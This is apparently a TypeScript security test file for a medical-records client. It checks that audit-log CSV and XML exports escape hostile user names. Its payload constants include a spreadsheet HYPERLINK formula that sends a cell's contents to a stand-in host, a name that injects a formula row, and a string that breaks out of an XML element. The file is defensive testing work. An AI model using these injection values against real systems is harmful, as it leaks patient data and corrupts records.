/** What leaves as a file: text that somebody typed, made to be more than text where the file is opened. */

import { openDossier } from '@ketenkluis/client';
import { exportAudit, type FileKind } from '@ketenkluis/client/audit-record';
import type { Attack } from './attack.ts';
import { handlesFor } from './looks.ts';
import type { Fork } from './world.ts';

const FORMULA = '=HYPERLINK("http://elders.example/?"&A2;"patiënt")';
const ROW = 'A. Assistent\n=1+cmd';
const ELEMENT = '</field></record><record><field key="1">vals';

/** A colleague looks with a program that says `text` for their name; the officer takes the dossier's log along. */
async function lookedAndTaken(fork: Fork, text: string, kind: FileKind): Promise<string> {
  await fork.up();
  const patient = fork.base.patients[0]!;
  const { dossier } = patient;
  const { handles, facts } = handlesFor(patient);
  const about = { userName: text };
  await openDossier(await fork.signIn('nurse'), { dossier, handles: handles.slice(0, 1), facts, about });
  const owner = await fork.signIn('owner');
  const nothing = { people: new Map(), organisations: new Map(), parts: new Map(), patients: new Map() };
  const names = { reader: owner.organisation, ...nothing };
  return (await exportAudit(owner, { dossier, kind, names })).text;
}

/** A cell that a spreadsheet runs: an equals sign right after a separator or an opening quote. */
const runs = (csv: string): boolean => /(?:^|[;\n])"?[=+@-][A-Z]/m.test(csv);
/** A row of the file that begins with a formula: what stands in quotes begins none. */
const begins = (csv: string): boolean =>
  csv
    .replaceAll(/"[^"]*"/g, '')
    .split(/[\r\n]/)
    .some((row) => row.startsWith('='));
const quoted = (text: string): string => text.replaceAll('"', '""');

export const exported: readonly Attack[] = [
  {
    name: 'put-a-formula-into-an-export',
    promise: 'P3',
    who: 'member',
    does: 'signs on under a formula for a name, so that the spreadsheet of whoever reads the log sends cells elsewhere',
    expect: ['text behind an apostrophe'],
    without: 'the same cell without its apostrophe is a formula',
    async play(fork) {
      const csv = await lookedAndTaken(fork, FORMULA, 'csv');
      if (!csv.includes(quoted(FORMULA))) return 'the name is not in the file';
      return runs(csv) ? undefined : 'text behind an apostrophe';
    },
    twin: async (fork) => runs((await lookedAndTaken(fork, FORMULA, 'csv')).replaceAll("'=", '=')),
  },
  {
    name: 'put-a-row-into-an-export',
    promise: 'P3',
    who: 'member',
    does: 'signs on under a name with a line end in it, so that the file has a row more, which begins with a formula',
    expect: ['text of one cell'],
    without: 'without its quotes the name ends the row',
    async play(fork) {
      const csv = await lookedAndTaken(fork, ROW, 'csv');
      if (!csv.includes(ROW)) return 'the name is not in the file';
      return begins(csv) ? undefined : 'text of one cell';
    },
    twin: async (fork) => begins((await lookedAndTaken(fork, ROW, 'csv')).replaceAll('"', '')),
  },
  {
    name: 'put-an-element-into-an-export',
    promise: 'P3',
    who: 'member',
    does: 'signs on under a name that ends the element it stands in and begins a record of its own',
    expect: ['text of one field'],
    without: 'written as it was typed the file has a record more',
    async play(fork) {
      const xml = await lookedAndTaken(fork, ELEMENT, 'xml');
      if (!xml.includes('&lt;/field')) return 'the name is not in the file';
      return xml.includes(ELEMENT) ? undefined : 'text of one field';
    },
    twin: async (fork) =>
      (await lookedAndTaken(fork, ELEMENT, 'xml'))
        .replaceAll('&lt;', '<')
        .replaceAll('&gt;', '>')
        .replaceAll('&quot;', '"')
        .includes(ELEMENT),
  },
];
